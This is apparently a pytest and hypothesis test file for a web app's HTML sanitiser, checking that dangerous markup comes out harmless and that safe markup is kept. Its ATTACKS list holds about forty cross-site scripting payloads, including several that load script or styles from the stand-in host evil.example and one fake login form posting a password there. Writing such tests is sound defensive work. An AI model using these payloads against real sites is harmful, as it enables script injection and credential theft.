"""Whatever is typed, what comes out can only be read."""

import pytest
from bs4 import BeautifulSoup
from hypothesis import given
from hypothesis import strategies as st

from app.pages import sanitising
from app.pages.sanitising import sanitised

ATTACKS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script>alert(1)",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror=alert(1)//",
    '<img """><script>alert(1)</script>">',
    "<img/src='x'/onerror='alert(1)'>",
    "<img src=`javascript:alert(1)`>",
    "<img src='data:image/svg+xml,<svg onload=alert(1)>'>",
    "<p onclick=alert(1) onmouseover='alert(1)'>x</p>",
    "<details open ontoggle=alert(1)>x</details>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href='&#106;avascript&colon;alert(1)'>x</a>",
    "<a href='java\tscr\nipt:alert(1)'>x</a>",
    "<a href=' \x01javascript:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<svg onload=alert(1)><circle/></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<math href='javascript:alert(1)'>x</math>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='javascript:alert(1)'></object><embed src='javascript:alert(1)'>",
    "<style>body { background: url(javascript:alert(1)) }</style>",
    "<p style='background: url(javascript:alert(1)); position: fixed'>x</p>",
    "<link rel=stylesheet href='https://evil.example/x.css'>",
    "<base href='https://evil.example/'>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<form action='https://evil.example/'><input name=password><button>Log in</button></form>",
    "<p id=csrf_token class=btn name=csrf_token>x</p>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<template><script>alert(1)</script></template>",
    "<video><source onerror=alert(1)></video><audio src=x onerror=alert(1)>",
    "<!--<img src='--><img src=x onerror=alert(1)//'>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><script>alert(1)</script>",
    "<p><table><td><b></p></table><script>alert(1)</script>",
    "</p></div></main><script>alert(1)</script>",
]

TAGS = sanitising.BLOCKS | sanitising.LISTS | sanitising.TABLES | sanitising.STRESS | sanitising.WORDS

PIECES = [
    "<",
    ">",
    "/",
    "'",
    '"',
    "=",
    " ",
    "\n",
    "&lt;",
    "x",
    "on",
    "src=",
    "href=",
    "javascript:",
    "//",
    "https://e/",
]
PIECES += [f"<{tag}" for tag in ("script", "svg", "math", "style", "img", "a", "p", "table", "td", "title", "!--")]
PIECES += [f"</{tag}>" for tag in ("script", "svg", "math", "style", "a", "p", "table", "title")] + ["-->"]


def assert_harmless(html: str) -> None:
    for tag in BeautifulSoup(f"\n{html}", "html.parser").find_all(True):
        assert tag.name in TAGS, html
        allowed = sanitising.ATTRIBUTES["*"] | sanitising.ATTRIBUTES.get(tag.name, set()) | {"rel"}
        assert set(tag.attrs) <= allowed, html
        href, src = str(tag.get("href", "")), str(tag.get("src", ""))
        assert ":" not in href or href.startswith(("http://", "https://", "mailto:")), html
        assert src == "" or sanitising.IMAGE.fullmatch(src), html


@pytest.mark.parametrize("attack", ATTACKS)
def test_an_attack_comes_out_harmless(attack: str) -> None:
    assert_harmless(sanitised(attack))


@given(st.lists(st.sampled_from(PIECES)).map("".join))
def test_nothing_that_can_be_put_together_comes_out_harmful_and_twice_is_once(html: str) -> None:
    once = sanitised(html)
    assert_harmless(once)
    assert sanitised(once) == once


@pytest.mark.parametrize(
    "html",
    [
        "<h2>a <em>b</em></h2>",
        '<p lang="la">a <abbr title="Before Christ">BC</abbr></p>',
        '<a href="https://a.example/?x=1&amp;y" rel="noopener nofollow">a</a>',
        '<a href="mailto:ada@example.com" rel="noopener nofollow">a</a>',
        '<a href="/about#us" rel="noopener nofollow">a</a>',
        '<img src="/static/logo.svg" alt="Logo">',
        '<img src="https://a.example/a.png" alt="">',
        '<table><tbody><tr><td colspan="2">a</td></tr></tbody></table>',
        "1 &lt; 2 &amp; 3 &gt; 2",
    ],
)
def test_what_is_harmless_stays(html: str) -> None:
    assert sanitised(html) == html


@pytest.mark.parametrize(
    "source", ["http://a.example/a.png", "//a.example/a.png", "/\\a.example/a.png", "/\t/a.example/a.png", "a.png"]
)
def test_an_image_comes_over_tls_or_from_here(source: str) -> None:
    assert sanitised(f'<img src="{source}">') == "<img>"


def test_a_link_tells_the_other_site_nothing_and_vouches_for_nobody() -> None:
    html = "<a href='https://a.example' rel='opener' target='_blank'>a</a>"
    assert sanitised(html) == '<a href="https://a.example" rel="noopener nofollow">a</a>'
